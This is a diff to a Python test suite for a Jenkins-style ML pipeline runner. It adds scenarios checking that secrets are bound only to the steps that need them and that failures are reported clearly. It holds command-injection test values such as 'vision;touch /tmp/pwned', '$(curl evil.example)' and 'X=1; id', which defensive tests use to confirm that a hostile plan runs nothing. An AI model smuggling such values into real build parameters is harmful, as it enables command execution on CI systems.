@@ -23,6 +23,10 @@ from .scenarios import (
 APPROVAL = {"approval": True, "submitter": "ml-leads,alice", "approval_timeout_s": 3600, "store": "hub"}
 INJECTED_PROJECTS = "vision;touch /tmp/pwned"
 INJECTED_BASE = "$(curl evil.example)"
+SECRET_PLAN = {
+    **plan(entry("vision", 1, store="hub", publish_secrets=["HF_TOKEN"])),
+    "notify_secrets": ["SLACK_WEBHOOK_URL"],
+}
 
 SCENARIOS = [
     scenario("one", plan(entry("vision", 1)), files=status_json("vision", "Succeeded", 0.95)),
@@ -68,6 +72,12 @@ SCENARIOS = [
     ),
     scenario("injection-plan", plan(entry("vision;id", 1))),
     scenario("injection-commit", {**plan(entry("vision", 1)), "commit": "HEAD; id"}),
+    scenario("injection-secret", {**plan(entry("vision", 1)), "notify_secrets": ["X=1; id"]}),
+    scenario("secrets", SECRET_PLAN, credentials=["SLACK_WEBHOOK_URL", "HF_TOKEN"]),
+    scenario("slack-credential-missing", SECRET_PLAN, credentials=["HF_TOKEN"]),
+    scenario("store-credential-missing", SECRET_PLAN, credentials=["SLACK_WEBHOOK_URL"]),
+    scenario("plan-not-json", sh=[{"match": r"^mlci plan ", "stdout": "Traceback (most recent call last):"}]),
+    scenario("record-unreadable", plan(entry("vision", 1)), files={f"{record('vision')}/status.json": "{oops"}),
 ]
 
 
@@ -285,8 +295,52 @@ def test_injected_parameters_stay_single_words(results):
 
 
 def test_a_hostile_plan_runs_nothing(results):
-    for name in ("injection-plan", "injection-commit"):
+    for name in ("injection-plan", "injection-commit", "injection-secret"):
         r = results[name]
         assert r["result"] == "FAILURE"
         assert r["error"].startswith("mlci plan printed an unusable plan"), r["error"]
         assert len(shell(r)) == 1, shell(r)
+
+
+def test_secrets_are_bound_only_where_needed(results):
+    r = results["secrets"]
+    assert r["result"] == "SUCCESS", r["error"]
+    bound = {c["args"]["script"].split(" --")[0]: c["secrets"] for c in calls(r, "sh")}
+    assert bound == {
+        "mlci plan": [],
+        "git checkout": [],
+        "mlci notify": ["SLACK_WEBHOOK_URL"],
+        "mlci run vision": [],
+        "mlci publish vision jenkins-42-vision": ["HF_TOKEN"],
+    }
+    assert [c["args"] for c in calls(r, "withCredentials")][1] == [
+        {"credentialsId": "HF_TOKEN", "variable": "HF_TOKEN"}
+    ]
+
+
+def test_a_missing_notification_credential_only_warns(results):
+    r = results["slack-credential-missing"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert f"mlci publish vision {job('vision')} --store=hub" in shell(r)
+    assert any("Could not find credentials entry with ID 'SLACK_WEBHOOK_URL'" in line for line in r["log"])
+
+
+def test_a_missing_store_credential_fails_the_publish(results):
+    r = results["store-credential-missing"]
+    assert r["result"] == "FAILURE"
+    assert "HF_TOKEN" in r["error"]
+    assert not any(s.startswith("mlci publish") for s in shell(r))
+    assert shell(r)[-1] == f"mlci notify --event=failed vision {job('vision')}"
+
+
+def test_plan_output_that_is_not_json_fails_clearly(results):
+    r = results["plan-not-json"]
+    assert r["result"] == "FAILURE"
+    assert r["error"].startswith("mlci plan printed no JSON")
+    assert len(shell(r)) == 1
+
+
+def test_an_unreadable_run_record_does_not_fail_a_passing_run(results):
+    r = results["record-unreadable"]
+    assert r["result"] == "SUCCESS", r["error"]
+    assert f"vision: unreadable run record ({record('vision')}/status.json)" in r["description"]
